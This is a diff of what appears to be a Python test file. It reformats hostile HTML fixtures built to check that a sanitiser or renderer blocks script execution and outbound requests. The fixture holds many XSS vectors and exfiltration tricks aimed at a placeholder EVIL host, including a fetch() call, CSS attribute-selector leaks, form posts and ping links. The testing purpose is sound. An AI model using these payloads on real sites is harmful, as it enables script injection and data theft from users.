@@ -491,20 +491,32 @@ HOSTILE_STORY = (
     f' onerror="alert(2)"><a href="javascript:alert(3)">x</a><iframe src="{EVIL}/f"></iframe></p>'
 )
 HOSTILE_PAGE = f"""<!doctype html><html><head><title>hostile</title><base href="{EVIL}/">
-<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data:">
-<script>document.title = "ran"; fetch("{EVIL}/fetch"); navigator.serviceWorker && navigator.serviceWorker.register("/sw.js")</script>
-<script src="{EVIL}/script.js"></script><link rel="stylesheet" href="{EVIL}/style.css"><link rel="preload" as="image" href="{EVIL}/preload.png">
-<link rel="prefetch" href="{EVIL}/prefetch"><link rel="dns-prefetch" href="{EVIL}"><link rel="manifest" href="{EVIL}/manifest">
-<style>@import "{EVIL}/import.css"; body {{ background: url({EVIL}/exfiltrate?a) }} input[value^=a] {{ background: url("{EVIL}/leak") }}
+<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><meta http-equiv="Content-Security-Policy"
+  content="default-src * 'unsafe-inline' data:">
+<script>document.title = "ran"; fetch("{EVIL}/fetch"); navigator.serviceWorker &&
+  navigator.serviceWorker.register("/sw.js")</script>
+<script src="{EVIL}/script.js"></script><link rel="stylesheet" href="{EVIL}/style.css"><link rel="preload" as="image"
+  href="{EVIL}/preload.png">
+<link rel="prefetch" href="{EVIL}/prefetch"><link rel="dns-prefetch" href="{EVIL}"><link rel="manifest"
+  href="{EVIL}/manifest">
+<style>@import "{EVIL}/import.css"; body {{ background: url({EVIL}/exfiltrate?a) }} input[value^=a] {{ background:
+  url("{EVIL}/leak") }}
 @font-face {{ font-family: f; src: url({EVIL}/font.woff2) }} h1 {{ font-family: f }}</style></head>
 <body onload="document.title='ran'"><h1 id="words">Hostile</h1><input value="abc">
-<img src="{EVIL}/picture.png" srcset="{EVIL}/two.png 2x" onerror="document.title='ran'"><img src=x onerror="document.title='ran'">
-<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"><script>document.title='ran'</script><image href="{EVIL}/svg.png"/><use href="{EVIL}/use.svg#a"/></svg>
-<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
-<form action="{EVIL}/form" method="post"><input name="a"><button id="send">send</button></form><a id="js" href="javascript:document.title='ran'">script link</a>
-<a id="ping" href="{NEWS}/go" ping="{EVIL}/ping">ping</a><video src="{EVIL}/video.mp4" poster="{EVIL}/poster.png" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>
-<p style="background:url({EVIL}/inline)">styled</p><math><mtext><table><mglyph><style><img src=x onerror="document.title='ran'"></style></mglyph></table></mtext></math>
-<template><img src="{EVIL}/template.png"></template><noscript><img src="{EVIL}/noscript.png"></noscript></body></html>"""
+<img src="{EVIL}/picture.png" srcset="{EVIL}/two.png 2x" onerror="document.title='ran'"><img src=x
+  onerror="document.title='ran'">
+<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"><script>document.title='ran'</script><image
+  href="{EVIL}/svg.png"/><use href="{EVIL}/use.svg#a"/></svg>
+<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><object
+  data="{EVIL}/object"></object><embed src="{EVIL}/embed">
+<form action="{EVIL}/form" method="post"><input name="a"><button id="send">send</button></form><a id="js"
+  href="javascript:document.title='ran'">script link</a>
+<a id="ping" href="{NEWS}/go" ping="{EVIL}/ping">ping</a><video src="{EVIL}/video.mp4" poster="{EVIL}/poster.png"
+  autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>
+<p style="background:url({EVIL}/inline)">styled</p><math><mtext><table><mglyph><style><img src=x
+  onerror="document.title='ran'"></style></mglyph></table></mtext></math>
+<template><img src="{EVIL}/template.png"></template><noscript><img src="{EVIL}/noscript.png"></noscript></body>
+</html>"""
 
 
 def picture(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
